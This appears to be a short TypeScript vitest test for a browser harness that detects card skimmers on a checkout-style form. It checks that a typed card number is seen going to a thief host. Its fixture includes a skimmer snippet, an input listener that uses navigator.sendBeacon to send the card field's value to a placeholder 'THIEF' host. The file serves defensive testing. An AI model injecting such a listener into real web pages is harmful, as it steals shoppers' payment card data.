import { expect, it } from 'vitest'
import { browser, shareBrowser } from './shared-browser.ts'
import { cardForm, watchPage } from './watch-page.ts'

shareBrowser()

it('types into a field that swallows keys as one piece, and finds what takes it from there', async () => {
  const shop = `document.getElementById('card').addEventListener('keydown', (event) => event.preventDefault())`
  const skimmer = `document.getElementById('card').addEventListener('input', function take() { navigator.sendBeacon('http://THIEF/c', this.value) })`
  const { capture, canary, thiefHost } = await watchPage(browser, { body: cardForm, shop, skimmer })
  const card = capture.fields.find(({ domId }) => domId === 'card')?.id
  expect(canary.typedInto).toContainEqual(expect.objectContaining({ fieldId: card, kind: 'card-number', verified: true }))
  expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, where: 'body' }))
})
